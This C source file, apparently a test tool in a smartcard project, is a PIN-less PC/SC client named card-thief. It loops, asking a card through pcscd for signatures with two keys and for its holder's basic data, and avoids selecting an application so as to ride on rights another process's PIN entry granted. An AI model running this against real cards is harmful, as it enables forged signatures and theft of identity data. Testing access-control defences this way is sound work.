/* SPDX-FileCopyrightText: 2026 The Uketsuke contributors
 * SPDX-License-Identifier: LGPL-2.1-or-later */

/* A program that may speak to pcscd and knows no PIN. It asks a card, again and again until SIGTERM, for signatures with
 * both keys over a hash of its own, and for the basic items of its holder. Never selects an application, which would end the
 * rights that it is after. In the end it says how often it tried, how often the card itself answered, and what it got.
 *
 *   card-thief READER     PCSCLITE_NO_BLOCKING=1 in the environment: it never waits for a transaction's end */
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <winscard.h>

#define ROOM 4096
#define SIGNATURE_LENGTH 256

static volatile sig_atomic_t ending;
static SCARDCONTEXT context;
static SCARDHANDLE card;
static unsigned long tries, answers, signatures, items;

static void end(int number) {
    (void)number;
    ending = 1;
}

static bool is_connected(const char *reader) {
    DWORD protocol;
    return card != 0 ||
           SCardConnect(context, reader, SCARD_SHARE_SHARED, SCARD_PROTOCOL_T1, &card, &protocol) == SCARD_S_SUCCESS;
}

static void disconnect(void) {
    SCardDisconnect(card, SCARD_LEAVE_CARD);
    card = 0;
}

static BYTE answer[ROOM];

/* How many bytes the card gave out with 9000; 0: none. */
static DWORD ask(const BYTE *command, DWORD length) {
    DWORD got = sizeof answer;
    tries++;
    LONG code = card == 0 ? SCARD_E_INVALID_HANDLE
                          : SCardTransmit(card, SCARD_PCI_T1, command, length, NULL, answer, &got);
    if (code == SCARD_W_REMOVED_CARD || code == SCARD_W_RESET_CARD || code == SCARD_E_INVALID_HANDLE)
        disconnect();
    if (code != SCARD_S_SUCCESS || got < 2)
        return 0;
    answers++;
    return answer[got - 2] == 0x90 && answer[got - 1] == 0x00 ? got - 2 : 0;
}

/* SELECT by identifier, no FCI (ISO/IEC 7816-4 11.2.2) */
static void select_file(BYTE id) {
    const BYTE command[] = {0x00, 0xA4, 0x02, 0x0C, 0x02, 0x00, id};
    ask(command, sizeof command);
}

static void ask_for_signature(BYTE key) {
    static const BYTE digest_info[] = {0x30, 0x31, 0x30, 0x0D, 0x06, 0x09, 0x60, 0x86, 0x48, 0x01,
                                       0x65, 0x03, 0x04, 0x02, 0x01, 0x05, 0x00, 0x04, 0x20};
    BYTE command[5 + sizeof digest_info + 32 + 1] = {0x80, 0x2A, 0x00, 0x80, sizeof digest_info + 32};
    memcpy(command + 5, digest_info, sizeof digest_info);
    memset(command + 5 + sizeof digest_info, 'T', 32);
    select_file(key);
    signatures += ask(command, sizeof command) == SIGNATURE_LENGTH;
}

/* 0002: the basic items, FF20; in the other application a certificate that everybody may read. */
static void ask_for_items(void) {
    const BYTE command[] = {0x00, 0xB0, 0x00, 0x00, 0x00};
    select_file(0x02);
    items += ask(command, sizeof command) > 2 && answer[0] == 0xFF && answer[1] == 0x20;
}

int main(int argc, char **argv) {
    if (argc != 2 || SCardEstablishContext(SCARD_SCOPE_SYSTEM, NULL, NULL, &context) != SCARD_S_SUCCESS)
        return 2;
    signal(SIGTERM, end);
    while (!ending) {
        if (!is_connected(argv[1]))
            continue;
        ask_for_signature(0x17);
        ask_for_signature(0x1A);
        ask_for_items();
    }
    printf("tries %lu, answers %lu, signatures %lu, items %lu\n", tries, answers, signatures, items);
    return 0;
}
